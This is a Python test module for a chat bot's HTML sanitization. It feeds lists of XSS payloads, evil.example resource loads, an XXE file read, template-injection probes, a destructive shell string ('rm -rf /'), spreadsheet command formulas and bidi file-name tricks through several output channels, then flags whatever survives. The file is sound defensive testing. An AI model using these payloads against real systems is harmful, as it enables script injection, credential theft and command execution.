"""Texts that want to be more than text, and what must never come of them at any place. Faces join by `FACES`."""

import re
from collections.abc import Callable, Iterable
from html.parser import HTMLParser
from itertools import product

from m365bot import visible
from m365bot.content.issue import export, mail, manuscript, page, preview, teams
from tests.content.issue.proofs import HEAD

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.example/pixel.gif?who=me" width=1 height=1>',
    '<img srcset="https://evil.example/a.png 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    "<svg><style>@import'//evil.example/x.css'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<style>body{background:url(//evil.example)}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<td style='text-align:right;background:url(//evil.example)'>x</td>",
    "<div style='-moz-binding:url(//evil.example/x.xml#x)'>x</div>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>押す</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=https://example.jp onclick=alert(1)>x</a>",
    "<a href=https://example.jp ping=//evil.example>x</a>",
    "<a href=https://example.jp target=_blank rel=opener>x</a>",
    "<a href='https://example.jp' title='\"><script>alert(1)</script>'>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p id=x class=y data-x=z>x</p>",
    "<p id='__proto__'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!-- -- --><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<!DOCTYPE html><html><head><title>x</title></head>",
    "<at id='0'>市長</at>",
    "<attachment id='x'></attachment>",
    "<systemEventMessage/>",
    "<emoji id='x' alt='x'></emoji>",
    "<table background=//evil.example><tr><td background=//evil.example>x",
    "<a name=x id=x>x</a>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p dir=rtl>x</p>",
    "<bdo dir=rtl>dcba</bdo>",
    "<image src=x onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
    "<layer src=//evil.example></layer>",
    "<isindex action=javascript:alert(1) type=image>",
    "<o:p></o:p><v:shape style='behavior:url(#default#VML)' onload=alert(1)>",
    "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "< script>alert(1)</ script>",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)>",
    "<br><script>alert(1)</script>",
    "https://x.safelinks.protection.outlook.com/?url=https%3A%2F%2Fexample.jp%2F%E2%80%AE%0A%29%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\<javascript:alert(1)\\>",
    "![図](%E2%80%AEgnp.exe%0A承認ずみ)",
)
LEADS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "java%0ascript:alert(1)",
    "\\javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "file://fs01/share",
    "blob:https://evil.example/x",
    "ms-excel:ofe|u|https://evil.example/x.xlsm",
    "ms-msdt:/id%20x",
    "search-ms:query=x&crumb=location:\\\\evil.example\\x",
    "intent://x#Intent;scheme=http;end",
    "tel:0761234567",
    "//evil.example/x",
    "https:evil.example",
    "https:///evil.example",
    "https://login.example@evil.example/",
    "https://[::1",
    "../../../etc/passwd",
    "../hostedContents/1/$value",
    "cid:x",
    "about:blank",
    "view-source:https://example.jp",
    "chrome://settings",
    "mailto:",
)
LINKS = (
    "[押す]({0})",
    "[押す](<{0}>)",
    "<{0}>",
    "![図]({0})",
    "[押す][x]\n\n[x]: {0}",
    "[![図]({0})]({0})",
)
TEMPLATES = (
    "{{7*191}}",
    "{{ 7*191 }}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{0.__class__.__init__.__globals__}",
    "%(secret)s %s %n",
    "$(id) `id` ; rm -rf /",
    "=cmd|'/c calc'!A1",
    "\x1b]0;x\x07\x1b[31m",
    "{=7*191}",
    "[[7*191]]",
    "@{7*191}",
)
LETTERS = (
    "\u202egpj.exe",
    "\u2066a\u2069",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u061c",
    "\x00",
    "\x07",
    "\x08",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\ud800",
    "\U000e0041",
    "\ufff9",
    "\xad",
    "\u115f",
    "\u3164",
)
PLACES = (
    "- {0}",
    "> {0}",
    "# {0}",
    "**{0}**",
    "| 見出し |\n|---|\n| {0} |",
    "::: note {0}\n本文\n:::",
    "::: caution\n{0}\n:::",
    "本文[^1]\n\n[^1]: {0}",
    "本文^[{0}]",
    "{{漢字|{0}}}",
    "![{0}](app.png)",
    '![図](app.png "{0}")',
    "[{0}](https://example.jp/)",
    "項目\t{0}\n値\t{0}",
    "・{0}\n・{0}",
    "::: chart {0}",
    "```{0}\n{0}\n```",
)
_IN_PLACES = (
    *HTML[:3],
    HTML[5],
    HTML[13],
    HTML[35],
    HTML[50],
    *TEMPLATES[:1],
    *LETTERS[:2],
    '"><svg onload=alert(1)>',
)
SAMPLES: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *HTML,
            *(way.replace("{0}", lead) for way, lead in product(LINKS, LEADS)),
            *TEMPLATES,
            *(f"前{letter}後" for letter in LETTERS),
            *(place.replace("{0}", what) for place, what in product(PLACES, _IN_PLACES)),
        )
    )
)

Face = Callable[[str], Iterable[str]]


def of_teams(body: str) -> Iterable[str]:
    yield teams.of(manuscript.read(body, {})).html


def of_page(body: str) -> Iterable[str]:
    return page.of(manuscript.read(body, {}), "題").texts


def of_mail(body: str) -> Iterable[str]:
    yield mail.of(manuscript.read(body, {}), HEAD).html


def of_export(body: str) -> Iterable[str]:
    yield export.of(manuscript.read(body, {}), HEAD).html


def of_preview(body: str) -> Iterable[str]:
    """What stands in its frames; around them stand words of its own."""
    written = manuscript.read(body, {})
    letter = mail.of(written, HEAD)
    panes = [
        preview.of_teams(teams.of(written), HEAD),
        preview.of_page(page.of(written, HEAD.subject), HEAD),
        preview.of_mail(letter),
        preview.of_words(letter),
        preview.of_export(export.of(written, HEAD)),
    ]
    for pane in panes:
        yield from (pane.light, pane.dark)


FACES: dict[str, Face] = {
    "teams": of_teams,
    "page": of_page,
    "mail": of_mail,
    "export": of_export,
    "preview": of_preview,
}
"""Each makes the HTML of a body as its readers get it: all pieces of it. A face that is new adds its line."""

_NAMES = (
    "html head title meta style body main section article header footer figure figcaption div span p h1 h2 h3 h4 h5 h6 "
    "strong em a code pre br hr ul ol li blockquote table thead tbody tr th td img ruby rt rp sup small"
)
_TAGS = set(_NAMES.split())
_SHELL = {"html", "head", "title", "meta", "style", "body"}
_BAD_STYLE = re.compile(
    r"url\s*\(|expression|@import|javascript|behavior|-moz-binding|position\s*:\s*fixed", re.I
)
_SOURCE = re.compile(r"\.\./hostedContents/\d+/\$value|cid:[\w.@-]+|data:image/(?:png|jpeg);base64,[\w+/=]+")


class _Looker(HTMLParser):
    def __init__(self, shell: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._tags = _TAGS if shell else _TAGS - _SHELL

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self._tags:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._look(tag, name, value or "")

    def _look(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in (
            "srcset",
            "srcdoc",
            "formaction",
            "ping",
            "background",
            "action",
        ):
            self.found.append(f"{tag} {name}")
        if name == "href" and not re.match(r"https?://[^/@]+(?:/|\Z|[?#])|mailto:.+@|#", value, re.I):
            self.found.append(f"{tag} {name}={value}")
        if name == "src" and not _SOURCE.fullmatch(value):
            self.found.append(f"{tag} {name}={value}")
        if name == "style" and _BAD_STYLE.search(value):
            self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if "1337" in data:
            self.found.append("a template was filled in")

    def handle_comment(self, data: str) -> None:
        if "<script" in data or "onload" in data:
            self.found.append(f"<!--{data}-->")


def harm_in(html: str, *, shell: bool = False) -> list[str]:
    """All that must not stand in what readers get. shell: it is a whole document, whose head is the face's own."""
    looker = _Looker(shell)
    looker.feed(html)
    looker.close()
    hidden = [f"hidden {visible.name_of(found[0])}" for found in visible.HIDDEN.finditer(html)]
    return looker.found + hidden
